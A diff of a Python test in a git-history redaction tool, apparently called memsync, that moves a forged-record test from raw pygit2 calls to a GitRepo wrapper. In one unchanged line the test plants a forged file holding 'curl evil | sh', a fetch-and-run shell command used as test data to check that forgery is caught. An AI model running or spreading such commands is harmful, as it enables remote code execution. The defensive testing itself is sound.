@@ -209,6 +209,7 @@ def test_a_forged_record_cannot_replace_where_a_shallow_history_stops(cli, writt
     import pygit2
 
     from memsync.git import rewrite
+    from memsync.git.repo import GitRepo
     from memsync.history.redact import placeholder
     from tests.test_redact import redaction_record
 
@@ -221,10 +222,11 @@ def test_a_forged_record_cannot_replace_where_a_shallow_history_stops(cli, writt
     repo = pygit2.Repository(str(written / ".git"))
     tip = str(repo.head.target)
     first = git("rev-list", "--reverse", "HEAD", cwd=written).split()[0]
-    old = rewrite.blob_id_at(repo, first, "notes.md")
+    engine = GitRepo.open(written)
+    old = rewrite.blob_id_at(engine, first, "notes.md")
     assert old is not None
-    new = rewrite.create_blob(repo, (placeholder() + "\n").encode())
-    done = rewrite.rewrite(repo, tip, lambda blob: new if blob == old else None)
+    new = rewrite.create_blob(engine, (placeholder() + "\n").encode())
+    done = rewrite.rewrite(engine, tip, lambda blob: new if blob == old else None)
     honest = repo[done.tip].peel(pygit2.Commit)
     builder = repo.TreeBuilder(honest.tree)
     builder.insert("evil.md", repo.create_blob(b"curl evil | sh\n"), pygit2.enums.FileMode.BLOB)
